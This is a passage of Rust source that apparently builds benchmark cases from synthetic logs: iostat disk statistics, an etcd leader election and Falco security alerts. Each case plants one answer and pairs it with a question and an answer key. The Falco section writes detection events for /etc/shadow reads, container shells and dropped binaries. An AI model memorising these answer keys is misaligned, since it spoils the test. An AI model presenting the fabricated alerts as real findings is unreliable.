    devices.extend(["dm-0", "nvme0n1", "nvme1n1"].map(String::from));
    let widths: [(&str, usize); 22] = [
        ("r/s", 8),
        ("rkB/s", 10),
        ("rrqm/s", 9),
        ("%rrqm", 7),
        ("r_await", 8),
        ("rareq-sz", 9),
        ("w/s", 8),
        ("wkB/s", 10),
        ("wrqm/s", 9),
        ("%wrqm", 7),
        ("w_await", 8),
        ("wareq-sz", 9),
        ("d/s", 8),
        ("dkB/s", 10),
        ("drqm/s", 9),
        ("%drqm", 7),
        ("d_await", 8),
        ("dareq-sz", 9),
        ("f/s", 8),
        ("f_await", 8),
        ("aqu-sz", 8),
        ("%util", 7),
    ];
    let mut header = format!("{:<13}", "Device");
    for (name, w) in widths {
        header.push_str(&format!("{name:>w$}"));
    }
    let busy = 64..=75usize;
    let peak = 70usize;
    let compaction = 20..=34usize;
    let mut out =
        String::from("Linux 5.15.0-126-generic (cass-db-07) \t11/27/2026 \t_x86_64_\t(32 CPU)\n\n");
    for r in 0..141usize {
        let s = 2 * 3600 + 10 * 60 + r as u64 * 5;
        let (hh, mm, ss) = (s / 3600, s / 60 % 60, s % 60);
        out.push_str(&format!("11/27/2026 {hh:02}:{mm:02}:{ss:02} AM\n"));
        let iowait = if r == 0 {
            0.41
        } else if busy.contains(&r) {
            between(r, 201, 9.0, 16.0)
        } else {
            between(r, 201, 0.5, 3.0)
        };
        let user = if r == 0 {
            11.37
        } else {
            between(r, 202, 18.0, 30.0)
        };
        let system = if r == 0 {
            2.84
        } else {
            between(r, 203, 4.0, 8.0)
        };
        let nice = if r == 0 { 0.02 } else { 0.0 };
        let idle = 100.0 - user - system - iowait - nice;
        out.push_str(&format!(
            "avg-cpu:  %user   %nice %system %iowait  %steal   %idle\n       {user:>8.2}{nice:>8.2}{system:>8.2}{iowait:>8.2}{:>8.2}{idle:>8.2}\n\n",
            0.0
        ));
        out.push_str(&header);
        out.push('\n');
        for (d, dev) in devices.iter().enumerate() {
            let i = r * 64 + d;
            let scale = if r == 0 { 0.35 } else { 1.0 };
            // (r/s, rareq-sz, r_await, w/s, wareq-sz, w_await, util)
            let (rs, rsz, rawait, ws, wsz, wawait, util) = match dev.as_str() {
                "loop0" | "loop1" => (
                    if r == 0 { 0.01 } else { 0.0 },
                    if r == 0 { 8.59 } else { 0.0 },
                    if r == 0 { 0.62 } else { 0.0 },
                    0.0,
                    0.0,
                    0.0,
                    0.0,
                ),
                "nvme0n1" | "dm-0" => (
                    between(i, 204, 0.0, 6.0) * scale,
                    between(i, 205, 4.0, 32.0),
                    between(i, 206, 0.05, 0.4),
                    between(i, 207, 3.0, 40.0) * scale,
                    between(i, 208, 4.0, 48.0),
                    between(i, 209, 0.1, 1.2),
                    between(i, 210, 0.2, 3.5) * scale,
                ),
                "nvme1n1" => (
                    between(i, 204, 0.0, 2.0) * scale,
                    4.0,
                    between(i, 206, 0.05, 0.2),
                    between(i, 207, 2_000.0, 6_200.0) * scale,
                    between(i, 208, 24.0, 96.0),
                    between(i, 209, 0.04, 0.22),
                    between(i, 210, 20.0, 45.0) * scale,
                ),
                "sdk" if busy.contains(&r) => (
                    between(i, 204, 160.0, 230.0),
                    between(i, 205, 48.0, 96.0),
                    between(i, 206, 120.0, 420.0),
                    between(i, 207, 2.0, 9.0),
                    between(i, 208, 64.0, 256.0),
                    between(i, 209, 40.0, 160.0),
                    if r == peak {
                        99.87
                    } else {
                        between(i, 210, 97.2, 99.6)
                    },
                ),
                "sdf" if compaction.contains(&r) => (
                    between(i, 204, 30.0, 70.0),
                    between(i, 205, 256.0, 512.0),
                    between(i, 206, 6.0, 14.0),
                    between(i, 207, 150.0, 260.0),
                    between(i, 208, 480.0, 512.0),
                    between(i, 209, 20.0, 40.0),
                    between(i, 210, 80.0, 88.9),
                ),
                _ => (
                    between(i, 204, 20.0, 80.0) * scale,
                    between(i, 205, 32.0, 128.0),
                    between(i, 206, 3.0, 12.0),
                    between(i, 207, 5.0, 40.0) * scale,
                    between(i, 208, 64.0, 256.0),
                    between(i, 209, 2.0, 15.0),
                    between(i, 210, 15.0, 55.0) * scale,
                ),
            };
            let rrqm = if rs > 0.0 {
                rs * between(i, 211, 0.0, 0.3)
            } else {
                0.0
            };
            let wrqm = if ws > 0.0 {
                ws * between(i, 212, 0.1, 1.5)
            } else {
                0.0
            };
            let pct = |m: f64, n: f64| {
                if m + n > 0.0 {
                    100.0 * m / (m + n)
                } else {
                    0.0
                }
            };
            let (ds, dsz, dawait) = if d >= 3 && h(i, 213).is_multiple_of(40) {
                (
                    between(i, 214, 0.2, 2.0),
                    between(i, 215, 1024.0, 4096.0),
                    between(i, 216, 0.5, 3.0),
                )
            } else {
                (0.0, 0.0, 0.0)
            };
            let (fs, fawait) = if ws > 0.0 {
                (between(i, 217, 0.2, 4.0), between(i, 218, 0.3, 6.0))
            } else {
                (0.0, 0.0)
            };
            let aqu = (rs * rawait + ws * wawait) / 1000.0;
            let values = [
                rs,
                rs * rsz,
                rrqm,
                pct(rrqm, rs),
                rawait,
                rsz,
                ws,
                ws * wsz,
                wrqm,
                pct(wrqm, ws),
                wawait,
                wsz,
                ds,
                ds * dsz,
                0.0,
                0.0,
                dawait,
                dsz,
                fs,
                fawait,
                aqu,
                util,
            ];
            let mut line = format!("{dev:<13}");
            for (c, (v, (_, w))) in values.iter().zip(widths).enumerate() {
                let mut s = format!("{v:.2}");
                // Only the planted report's %util reads 99.87.
                if s == "99.87" && !(dev == "sdk" && r == peak && c == 21) {
                    s = "99.86".into();
                }
                line.push_str(&format!("{s:>w$}"));
            }
            out.push_str(&line);
            out.push('\n');
        }
        out.push('\n');
    }
    let peaks = out.split([' ', '\n']).filter(|w| *w == "99.87").count();
    assert_eq!(peaks, 1, "the worst %util is the only 99.87");
    Case::fact(
        "iostat -x, the disk pinned at full",
        out,
        "For about a minute the database crawled. Which drive was the bottleneck, and how close to completely maxed out did it get?",
        &["sdk", "99.87"],
    )
}

/// The JSON log of `etcd-1` (etcd 3.5, zap's JSON lines), one of three
/// members of a Kubernetes control plane, over a morning: apply requests
/// that took too long, range and transaction traces, compaction every five
/// minutes and the hashes it stores, snapshots, TLS probes rejected, slow
/// `fdatasync`s. Early on, the member ignores a pre-vote of `etcd-2`
/// (the leader's lease had not expired). Later the leader `etcd-0`'s link
/// drops: probes fail, streams are lost, reads wait for the read index,
/// then `etcd-2` wins an election and the member follows it; the old
/// leader comes back at its old term and is ignored.
fn etcd_new_leader() -> Case {
    let old = "8e9e05c52164694d";
    let me = "91bc3c398fb3c146";
    let new = "fd422379fda50e48";
    let decoy_prevote = 230usize;
    let lost = 820usize;
    let back = 905usize;
    let mut out = String::new();
    let mut us = 6 * 3_600_000_000u64 + 12_004_113;
    let mut index = 48_812_345u64;
    let mut revision = 31_220_118u64;
    let mut term = 4u64;
    let mut trace = 2_044_117_730u64;
    let keys = [
        "/registry/leases/kube-node-lease/",
        "/registry/pods/",
        "/registry/events/",
        "/registry/configmaps/",
        "/registry/services/endpoints/",
        "/registry/endpointslices/",
        "/registry/leases/kube-system/",
        "/registry/deployments/",
        "/registry/replicasets/",
        "/registry/secrets/",
        "/registry/minions/",
        "/registry/masterleases/",
    ];
    let namespaces = [
        "default",
        "kube-system",
        "payments",
        "checkout",
        "monitoring",
        "ingress-nginx",
        "cert-manager",
        "search",
    ];
    let mut next_compaction = us + 300_000_000;
    for i in 0..1_800usize {
        us += 2_000_000 + h(i, 301) % 28_000_000;
        index += 40 + h(i, 302) % 900;
        revision += 10 + h(i, 303) % 300;
        let ts = |us: u64| {
            let s = us / 1_000_000;
            format!("{}.{:06}Z", iso(s), us % 1_000_000)
        };
        let t = ts(us);
        let line = |out: &mut String, level: &str, caller: &str, msg: &str, rest: Value| {
            let mut v = json!({"level": level, "ts": t, "caller": caller, "msg": msg});
            if let (Some(a), Value::Object(b)) = (v.as_object_mut(), rest) {
                a.extend(b);
            }
            out.push_str(&v.to_string());
            out.push('\n');
        };
        let raft = |out: &mut String, msg: String| {
            out.push_str(
                &json!({"level": "info", "ts": t, "logger": "raft", "caller": "etcdserver/zap_raft.go:77", "msg": msg})
                    .to_string(),
            );
            out.push('\n');
        };
        if us >= next_compaction {
            next_compaction += 300_000_000;
            let compact = revision - 5_000 - h(i, 304) % 2_000;
            line(
                &mut out,
                "info",
                "mvcc/index.go:214",
                "compact tree index",
                json!({"revision": compact}),
            );
            line(
                &mut out,
                "info",
                "mvcc/kvstore_compaction.go:66",
                "finished scheduled compaction",
                json!({"compact-revision": compact, "took": format!("{}.{:06}ms", 40 + h(i, 305) % 60, h(i, 306) % 1_000_000), "hash": h(i, 307) % 4_294_967_296u64}),
            );
            line(
                &mut out,
                "info",
                "mvcc/hash.go:137",
                "storing new hash",
                json!({"hash": h(i, 308) % 4_294_967_296u64, "revision": compact, "compact-revision": compact - 31_000 - h(i, 309) % 4_000}),
            );
        }
        if i == decoy_prevote {
            raft(
                &mut out,
                format!(
                    "{me} [logterm: {term}, index: {index}, vote: {old}] ignored MsgPreVote from {new} [logterm: {term}, index: {}] at term {term}: lease is not expired (remaining ticks: 7)",
                    index - 3
                ),
            );
            line(
                &mut out,
                "warn",
                "rafthttp/probing_status.go:68",
                "prober detected unhealthy status",
                json!({"round-tripper-name": "ROUND_TRIPPER_SNAPSHOT", "remote-peer-id": new, "rtt": "0s", "error": "dial tcp 10.0.1.12:2380: i/o timeout"}),
            );
            continue;
        }
        if (lost..lost + 6).contains(&i) {
            let k = i - lost;
            line(
                &mut out,
                "warn",
                "rafthttp/probing_status.go:68",
                "prober detected unhealthy status",
                json!({"round-tripper-name": "ROUND_TRIPPER_RAFT_MESSAGE", "remote-peer-id": old, "rtt": "0s", "error": "dial tcp 10.0.1.10:2380: i/o timeout"}),
            );
            if k == 0 {
                for stream in ["stream Message", "stream MsgApp v2"] {
                    line(
                        &mut out,
                        "warn",
                        "rafthttp/stream.go:421",
                        "lost TCP streaming connection with remote peer",
                        json!({"stream-reader-type": stream, "local-member-id": me, "remote-peer-id": old, "error": "read tcp 10.0.1.11:51712->10.0.1.10:2380: i/o timeout"}),
                    );
                }
                line(
                    &mut out,
                    "warn",
                    "rafthttp/peer_status.go:66",
                    "peer became inactive (message send to peer failed)",
                    json!({"peer-id": old, "error": "failed to dial 8e9e05c52164694d on stream Message (dial tcp 10.0.1.10:2380: i/o timeout)"}),
                );
            }
            if k == 2 {
                line(
                    &mut out,
                    "warn",
                    "etcdserver/v3_server.go:815",
                    "waiting for ReadIndex response took too long, retrying",
                    json!({"sent-request-id": 7_587_871_633_448_001_113u64, "retry-timeout": "500ms"}),
                );
                line(
                    &mut out,
                    "warn",
                    "etcdserver/v3_server.go:794",
                    "timed out waiting for read index response (local node might have slow network)",
                    json!({"timeout": "7s"}),
                );
            }
            if k == 4 {
                raft(
                    &mut out,
                    format!(
                        "{me} [logterm: {term}, index: {index}, vote: {old}] cast MsgPreVote for {new} [logterm: {term}, index: {index}] at term {term}"
                    ),
                );
                raft(
                    &mut out,
                    format!(
                        "{me} [term: {term}] received a MsgVote message with higher term from {new} [term: {}]",
                        term + 1
                    ),
                );
                term += 1;
                raft(&mut out, format!("{me} became follower at term {term}"));
                raft(
                    &mut out,
                    format!(
                        "{me} [logterm: {}, index: {index}, vote: 0] cast MsgVote for {new} [logterm: {}, index: {index}] at term {term}",
                        term - 1,
                        term - 1
                    ),
                );
                raft(
                    &mut out,
                    format!("raft.node: {me} lost leader {old} at term {term}"),
                );
                raft(
                    &mut out,
                    format!("raft.node: {me} elected leader {new} at term {term}"),
                );
            }
            if k == 5 {
                line(
                    &mut out,
                    "warn",
                    "etcdserver/util.go:170",
                    "apply request took too long",
                    json!({"took": "7.000812345s", "expected-duration": "100ms", "prefix": "read-only range ", "request": "key:\"/registry/leases/kube-system/kube-controller-manager\" ", "response": "", "error": "etcdserver: leader changed"}),
                );
            }
            continue;
        }
        if i == back {
            line(
                &mut out,
                "info",
                "rafthttp/peer_status.go:53",
                "peer became active",
                json!({"peer-id": old}),
            );
            for stream in ["stream Message", "stream MsgApp v2"] {
                line(
                    &mut out,
                    "info",
                    "rafthttp/stream.go:274",
                    "established TCP streaming connection with remote peer",
                    json!({"stream-writer-type": stream, "local-member-id": me, "remote-peer-id": old}),
                );
            }
            raft(
                &mut out,
                format!(
                    "{me} [term: {term}] ignored a MsgHeartbeat message with lower term from {old} [term: {}]",
                    term - 1
                ),
            );
            continue;
        }
        match h(i, 310) % 100 {
            0..=39 => {
                let key = format!("{}{}/", pick(&keys, i, 311), pick(&namespaces, i, 312));
                let range_end = format!("{}0", key.trim_end_matches('/'));
                let count = h(i, 313) % 400;
                line(
                    &mut out,
                    "warn",
                    "etcdserver/util.go:170",
                    "apply request took too long",
                    json!({"took": format!("{}.{:06}ms", 100 + h(i, 314) % 90, h(i, 315) % 1_000_000), "expected-duration": "100ms", "prefix": "read-only range ", "request": format!("key:\"{key}\" range_end:\"{range_end}\" "), "response": format!("range_response_count:{count} size:{}", count * (900 + h(i, 316) % 4_000))}),
                );
            }
            40..=64 => {
                trace += 1 + h(i, 317) % 40;
                let start = us - 100_000 - h(i, 318) % 200_000;
                let (what, detail, steps) = if h(i, 319).is_multiple_of(2) {
                    (
                        "range",
                        format!(
                            "{{range_begin:{}{}/node-{}; range_end:; response_count:1; response_revision:{revision}; }}",
                            pick(&keys, i, 311),
                            pick(&namespaces, i, 312),
                            h(i, 320) % 60
                        ),
                        vec![
                            format!(
                                "trace[{trace}] 'agreement among raft nodes before linearized reading'  (duration: {}.{:06}ms)",
                                90 + h(i, 321) % 80,
                                h(i, 322) % 1_000_000
                            ),
                            format!(
                                "trace[{trace}] 'range keys from in-memory index tree'  (duration: {}.{:06}ms)",
                                h(i, 323) % 3,
                                h(i, 324) % 1_000_000
                            ),
                        ],
                    )
                } else {
                    (
                        "transaction",
                        format!(
                            "{{read_only:false; response_revision:{revision}; number_of_response:1; }}"
                        ),
                        vec![
                            format!(
                                "trace[{trace}] 'process raft request'  (duration: {}.{:06}ms)",
                                90 + h(i, 321) % 80,
                                h(i, 322) % 1_000_000
                            ),
                            format!(
                                "trace[{trace}] 'compare'  (duration: {}.{:06}ms)",
                                h(i, 323) % 3,
                                h(i, 324) % 1_000_000
                            ),
                        ],
                    )
                };
                line(
                    &mut out,
                    "info",
                    "traceutil/trace.go:171",
                    &format!("trace[{trace}] {what}"),
                    json!({"detail": detail, "duration": format!("{}.{:06}ms", 100 + h(i, 325) % 90, h(i, 326) % 1_000_000), "start": ts(start), "end": t, "steps": steps, "step_count": 2}),
                );
            }
            65..=79 => line(
                &mut out,
                "warn",
                "embed/config_logging.go:169",
                "rejected connection",
                json!({"remote-addr": format!("10.0.7.{}:{}", 10 + h(i, 327) % 40, 30_000 + h(i, 328) % 30_000), "server-name": "", "error": "tls: first record does not look like a TLS handshake"}),
            ),
            80..=85 => line(
                &mut out,
                "warn",
                "wal/wal.go:805",
                "slow fdatasync",
                json!({"took": format!("{}.{:09}s", 1, h(i, 329) % 400_000_000), "expected-duration": "1s"}),
            ),
            86..=87 => {
                line(
                    &mut out,
                    "info",
                    "etcdserver/server.go:1395",
                    "triggering snapshot",
                    json!({"local-member-id": me, "local-member-applied-index": index, "local-member-snapshot-index": index - 100_001, "local-member-snapshot-count": 100_000}),
                );
                line(
                    &mut out,
                    "info",
                    "etcdserver/server.go:2413",
                    "saved snapshot",
                    json!({"snapshot-index": index}),
                );
                line(
                    &mut out,
                    "info",
                    "etcdserver/server.go:2443",
                    "compacted Raft logs",
                    json!({"compact-index": index - 5_000}),
                );
            }
            88..=91 => line(
                &mut out,
                "warn",
                "etcdserver/util.go:123",
                "failed to apply request",
                json!({"took": format!("{}.{:03}µs", 20 + h(i, 330) % 60, h(i, 331) % 1000), "request": format!("header:<ID:{} > lease_revoke:<id:{}>", 7_587_871_633_400_000_000u64 + h(i, 332) % 99_999_999, hex(i, 333, 16)), "response": "size:29", "error": "lease not found"}),
            ),
            92..=95 => line(
                &mut out,
                "info",
                "mvcc/kvstore_compaction.go:57",
                "skip compaction since there is an inflight snapshot",
                json!({}),
            ),
            _ => {
                let key = format!(
                    "{}{}/{}",
                    pick(&keys, i, 311),
                    pick(&namespaces, i, 312),
                    letters(i, 334, 10)
                );
                line(
                    &mut out,
                    "warn",
                    "etcdserver/util.go:170",
                    "apply request took too long",
                    json!({"took": format!("{}.{:06}ms", 100 + h(i, 335) % 300, h(i, 336) % 1_000_000), "expected-duration": "100ms", "prefix": "", "request": format!("header:<ID:{} username:\"kube-apiserver-etcd-client\" auth_revision:1 > txn:<compare:<target:MOD key:\"{key}\" mod_revision:{} > success:<request_put:<key:\"{key}\" value_size:{} >> failure:<request_range:<key:\"{key}\" > >>", 7_587_871_633_400_000_000u64 + h(i, 337) % 99_999_999, revision - 40, 200 + h(i, 338) % 3_000), "response": format!("size:{}", 20 + h(i, 339) % 40)}),
                );
            }
        }
    }
    let answer = format!("raft.node: {me} elected leader {new} at term 5");
    Case::fact(
        "etcd JSON log, the new leader",
        out,
        "After the control-plane hiccup this morning, which etcd member ended up in charge of the cluster, and as of which term?",
        &["elected leader fd422379fda50e48 at term 5"],
    )
    .with_jq(
        ".[] | select(.msg | contains(\"elected leader\")) | .msg",
        vec![jq_string(&answer)],
    )
}

/// One workload of the Falco case: namespace, deployment's pod prefix,
/// container, image.
type Workload = (&'static str, String, &'static str, &'static str);

/// Falco's JSON events (`json_output: true`, Falco 0.37 with the default
/// rules and `-pk`), one a line, from a cluster's nodes over a night:
/// developers and CI opening terminals in development, staging and
/// `payments-preprod` pods, package managers run in CI runners, binaries
/// dropped and run in development containers, a monitoring agent reading
/// `/etc/shadow`, and production pods (the checkout API's replicas among
/// them) contacting the API server. Once, someone opens an interactive
/// shell in one replica of the checkout API in `checkout-prod`.
fn falco_prod_shell() -> Case {
    let pod = |prefix: &str, i: usize, salt: u64| {
        format!(
            "{prefix}-{}",
            letters(i, salt, 5).replace(['a', 'e', 'i', 'o', 'u'], "x")
        )
    };
    let checkout_rs = "checkout-api-6f7c9d8b54";
    let planted_pod = format!("{checkout_rs}-8wz4q");
    let prod: Vec<Workload> = vec![
        (
            "checkout-prod",
            checkout_rs.into(),
            "checkout-api",
            "registry.acme.io/checkout-api",
        ),
        (
            "checkout-prod",
            "checkout-worker-5b8d7c6f9".into(),
            "worker",
            "registry.acme.io/checkout-worker",
        ),
        (
            "payments-prod",
            "payments-api-7d4f8b9c65".into(),
            "payments-api",
            "registry.acme.io/payments-api",
        ),
        (
            "payments-prod",
            "payments-ledger-84c6d5f7b".into(),
            "ledger",
            "registry.acme.io/payments-ledger",
        ),
        (
            "search-prod",
            "search-indexer-6c9f7d8b4".into(),
            "indexer",
            "registry.acme.io/search-indexer",
        ),
    ];
    let nonprod: Vec<Workload> = vec![
        (
            "checkout-staging",
            "checkout-api-75c8f6d9b4".into(),
            "checkout-api",
            "registry.acme.io/checkout-api",
        ),
        (
            "payments-preprod",
            "payments-api-5f9b7c8d46".into(),
            "payments-api",
            "registry.acme.io/payments-api",
        ),
        (
            "payments-preprod",
            "payments-ledger-6b7d8c5f9".into(),
            "ledger",
            "registry.acme.io/payments-ledger",
        ),
        (
            "dev-alice",
            "storefront-web-7c9d5b8f6".into(),
            "web",
            "registry.acme.io/storefront-web",
        ),
        (
            "dev-rahul",
            "search-indexer-8f6c7d9b5".into(),
            "indexer",
            "registry.acme.io/search-indexer",
        ),
        (
            "ci-runners",
            "runner-x7kq2m9p-project-4812-concurrent".into(),
            "build",
            "registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper",
        ),
    ];
    let nodes: Vec<String> = (0..9)
        .map(|k| {
            format!(
                "ip-10-0-{}-{}.eu-west-1.compute.internal",
                10 + h(k, 401) % 40,
                10 + h(k, 402) % 200
            )
        })
        .collect();
    let planted = 377usize;
    let mut out = String::new();
    let mut planted_time = String::new();
    let mut s = 40u64;
    for i in 0..640usize {
        s += 4 + h(i, 403) % 60;
        let ns = h(i, 404) % 1_000_000_000;
        let time = format!("{}.{ns:09}Z", iso(s));
        let clock = format!("{:02}:{:02}:{:02}.{ns:09}", s / 3600, s / 60 % 60, s % 60);
        let evt_time = (DAY + s) * 1_000_000_000 + ns;
        let host = &nodes[(h(i, 405) % nodes.len() as u64) as usize];
        let kind = if i == planted {
            0
        } else {
            match h(i, 406) % 100 {
                0..=37 => 0,
                38..=62 => 1,
                63..=77 => 2,
                78..=89 => 3,
                _ => 4,
            }
        };
        let (ns_name, pod_name, container, image) = if i == planted {
            (
                "checkout-prod",
                planted_pod.clone(),
                "checkout-api",
                "registry.acme.io/checkout-api",
            )
        } else {
            let w = match kind {
                0 | 4 => &nonprod[(h(i, 407) % 5) as usize],
                2 => &nonprod[5],
                1 => &prod[(h(i, 407) % prod.len() as u64) as usize],
                _ => &prod[0],
            };
            let name =
                if w.0 == "checkout-prod" && w.1 == checkout_rs && h(i, 408).is_multiple_of(4) {
                    planted_pod.clone()
                } else if w.0 == "ci-runners" {
                    format!("{}-{}", w.1, h(i, 409) % 4)
                } else {
                    pod(&w.1, (h(i, 410) % 4) as usize, 411 + w.1.len() as u64)
                };
            (w.0, name, w.2, w.3)
        };
        let kind = if kind == 3 && i != planted { 5 } else { kind };
        let tag = format!("2026.11.{}", 1 + h(i, 412) % 4);
        let cid = hex(i % 37 + ns_name.len(), 413, 12);
        let info = format!(
            "container_id={cid} container_image={image} container_image_tag={tag} container_name={container} k8s_ns={ns_name} k8s_pod_name={pod_name}"
        );
        let base =
            |cmd: &str, name: &str, exe: &str, parent: &str, user: &str, uid: u64, tty: u64| {
                json!({
                    "container.id": cid,
                    "container.image.repository": image,
                    "container.image.tag": tag,
                    "container.name": container,
                    "evt.time": evt_time,
                    "k8s.ns.name": ns_name,
                    "k8s.pod.name": pod_name,
                    "proc.cmdline": cmd,
                    "proc.exepath": exe,
                    "proc.name": name,
                    "proc.pname": parent,
                    "proc.tty": tty,
                    "user.loginuid": -1,
                    "user.name": user,
                    "user.uid": uid
                })
            };
        let (rule, priority, tags, text, fields) = match kind {
            0 => {
                let (shell, exe) = pick(
                    &[
                        "bash|/usr/bin/bash",
                        "sh|/bin/sh",
                        "ash|/bin/busybox",
                        "bash|/bin/bash",
                    ],
                    i,
                    414,
                )
                .split_once('|')
                .unwrap_or(("sh", "/bin/sh"));
                let (shell, exe) = if i == planted {
                    ("bash", "/usr/bin/bash")
                } else {
                    (shell, exe)
                };
                let (user, uid) = if i == planted || h(i, 415).is_multiple_of(3) {
                    ("root", 0)
                } else {
                    ("app", 1000)
                };
                let tty = 34_816 + h(i, 416) % 8;
                let mut f = base(shell, shell, exe, "runc", user, uid, tty);
                f["evt.arg.flags"] = json!("EXE_WRITABLE|EXE_LOWER_LAYER");
                f["evt.type"] = json!("execve");
                (
                    "Terminal shell in container",
                    "Notice",
                    vec![
                        "T1059",
                        "container",
                        "maturity_stable",
                        "mitre_execution",
                        "shell",
                    ],
                    format!(
                        "A shell was spawned in a container with an attached terminal (evt_type=execve user={user} user_uid={uid} user_loginuid=-1 process={shell} proc_exepath={exe} parent=runc command={shell} terminal={tty} exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER {info})"
                    ),
                    f,
                )
            }
            1 => {
                let (proc_name, file) = if ns_name.ends_with("-prod") && h(i, 417).is_multiple_of(3)
                {
                    ("java", "/etc/pam.d/common-password")
                } else {
                    ("python3", "/etc/shadow")
                };
                let cmd = if proc_name == "java" {
                    "java -XX:+UseG1GC -jar /app/ledger.jar".to_string()
                } else {
                    format!("python3 /app/healthcheck.py --probe {}", h(i, 418) % 9)
                };
                let mut f = base(
                    &cmd,
                    proc_name,
                    &format!("/usr/bin/{proc_name}"),
                    "tini",
                    "app",
                    1000,
                    0,
                );
                f["evt.type"] = json!("openat");
                f["fd.name"] = json!(file);
                f["proc.aname[2]"] = json!("containerd-shim");
                (
                    "Read sensitive file untrusted",
                    "Warning",
                    vec![
                        "T1555",
                        "container",
                        "filesystem",
                        "host",
                        "maturity_stable",
                        "mitre_credential_access",
                    ],
                    format!(
                        "Sensitive file opened for reading by non-trusted program (file={file} gparent=containerd-shim ggparent=<NA> gggparent=<NA> evt_type=openat user=app user_uid=1000 user_loginuid=-1 process={proc_name} proc_exepath=/usr/bin/{proc_name} parent=tini command={cmd} terminal=0 {info})"
                    ),
                    f,
                )
            }
            2 => {
                let (tool, cmd) = if h(i, 419).is_multiple_of(2) {
                    (
                        "apt-get",
                        "apt-get install -y --no-install-recommends jq git",
                    )
                } else {
                    ("apk", "apk add --no-cache curl")
                };
                let mut f = base(cmd, tool, &format!("/usr/bin/{tool}"), "sh", "root", 0, 0);
                f["evt.type"] = json!("execve");
                (
                    "Launch Package Management Process in Container",
                    "Error",
                    vec![
                        "T1505",
                        "container",
                        "maturity_incubating",
                        "mitre_persistence",
                        "process",
                        "software_mgmt",
                    ],
                    format!(
                        "Package management process launched in container (evt_type=execve user=root user_uid=0 user_loginuid=-1 process={tool} proc_exepath=/usr/bin/{tool} parent=sh command={cmd} terminal=0 {info})"
                    ),
                    f,
                )
            }
            4 => {
                let bin = pick(
                    &[
                        "/tmp/dlv",
                        "/tmp/pprof-helper",
                        "/root/go/bin/gopls",
                        "/tmp/hey",
                    ],
                    i,
                    420,
                );
                let name = bin.rsplit('/').next().unwrap_or(bin);
                let mut f = base(bin, name, bin, "bash", "root", 0, 34_817);
                f["evt.arg.flags"] = json!("EXE_WRITABLE|EXE_UPPER_LAYER");
                f["evt.type"] = json!("execve");
                (
                    "Drop and execute new binary in container",
                    "Critical",
                    vec![
                        "PCI_DSS_11.5.1",
                        "TA0003",
                        "container",
                        "maturity_stable",
                        "mitre_persistence",
                        "process",
                    ],
                    format!(
                        "Executing binary not part of base image (proc_exe={bin} proc_sname=bash gparent=runc proc_exe_ino_ctime={} proc_exe_ino_mtime={} proc_exe_ino_ctime_duration_proc_start={} proc_cwd=/app/ container_start_ts={} evt_type=execve user=root user_uid=0 user_loginuid=-1 process={name} proc_exepath={bin} parent=bash command={bin} terminal=34817 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER {info})",
                        evt_time - 90_000_000_000,
                        evt_time - 95_000_000_000,
                        40_000_000_000u64 + h(i, 421) % 9_000_000_000,
                        evt_time - 86_400_000_000_000
                    ),
                    f,
                )
            }
            _ => {
                let (proc_name, cmd) = if container == "checkout-api" {
                    ("node", "node /app/dist/server.js")
                } else {
                    ("java", "java -XX:+UseG1GC -jar /app/app.jar")
                };
                let lport = 32_000 + h(i, 422) % 30_000;
                let conn = format!(
                    "10.0.{}.{}:{lport}->172.20.0.1:443",
                    64 + h(i, 423) % 60,
                    2 + h(i, 424) % 250
                );
                let mut f = base(
                    cmd,
                    proc_name,
                    &format!("/usr/local/bin/{proc_name}"),
                    "tini",
                    "app",
                    1000,
                    0,
                );
                f["evt.type"] = json!("connect");
                f["fd.l4proto"] = json!("tcp");
                f["fd.lport"] = json!(lport);
                f["fd.name"] = json!(conn);
                f["fd.rport"] = json!(443);
                f["fd.type"] = json!("ipv4");
                (
                    "Contact K8S API Server From Container",
                    "Notice",
                    vec![
                        "T1565",
                        "container",
                        "k8s",
                        "maturity_stable",
                        "mitre_discovery",
                        "network",
                    ],
                    format!(
                        "Unexpected connection to K8s API Server from container (connection={conn} lport={lport} rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=app user_uid=1000 user_loginuid=-1 process={proc_name} proc_exepath=/usr/local/bin/{proc_name} parent=tini command={cmd} terminal=0 {info})"
                    ),
                    f,
                )
            }
        };
        // Falco's JSON keeps every object's keys in order.
        let mut sorted: Vec<(String, Value)> = fields
            .as_object()
            .cloned()
            .unwrap_or_default()
            .into_iter()
            .collect();
        sorted.sort_by(|a, b| a.0.cmp(&b.0));
        let fields: serde_json::Map<String, Value> = sorted.into_iter().collect();
        if i == planted {
            planted_time = iso(s);
        }
        out.push_str(
            &json!({
                "hostname": host,
                "output": format!("{clock}: {priority} {text}"),
                "output_fields": fields,
                "priority": priority,
                "rule": rule,
                "source": "syscall",
                "tags": tags,
                "time": time
            })
            .to_string(),
        );
        out.push('\n');
    }
    Case::fact(
        "Falco JSON events, a shell in production",
        out,
        "Did anybody get an interactive session inside one of our production containers overnight? Which pod, and when?",
        &[planted_pod.as_str(), planted_time.as_str()],
    )
    .with_jq(
        ".[] | select(.rule == \"Terminal shell in container\" and (.output_fields[\"k8s.ns.name\"] | endswith(\"-prod\"))) | .output_fields[\"k8s.pod.name\"]",
        vec![jq_string(&planted_pod)],
    )
}

/// What became of one disk in the zpool case.
#[derive(Clone, Copy, PartialEq)]
enum Disk {
    Fine,
    /// FAULTED, with read and write errors.
    Faulted(u64, u64, u64),
    /// UNAVAIL: its label is gone; listed by GUID, "was" its path.
    Gone,
    /// ONLINE, with a few errors (read, write, checksum).
    Errors(u64, u64, u64),
}

/// `pdsh -w stor[01-56] zpool status` over a storage fleet (OpenZFS 2.1,
/// pdsh's `host: ` prefixes, hosts in the order they answered): per host a
/// mirrored `rpool` of two SSDs and a `tank` of seven 12-disk raidz2 vdevs,
/// a mirrored log, a cache and two spares. Scrubs, a resilver after a
/// replacement, a scrub in progress, pools that want `zpool upgrade`,
/// disks with a few checksum or read errors (ONLINE, ZFS-8000-9P). ZFS
/// faulted four disks for too many errors and can no longer open a fifth
/// (UNAVAIL, listed by its GUID and the path it was).
fn zpool_dead_disks() -> Case {
    let wwn = |host: usize, k: usize| {
        let vendor = if h(host * 100 + k, 501).is_multiple_of(3) {
            "5000cca2"
        } else {
            "5000c500"
        };
        format!("wwn-0x{vendor}{}", hex(host * 100 + k, 502, 8))
    };
    // host → (vdev, disk in vdev, what)
    let planted: [(usize, usize, usize, Disk); 9] = [
        (7, 2, 5, Disk::Faulted(14, 87, 0)),
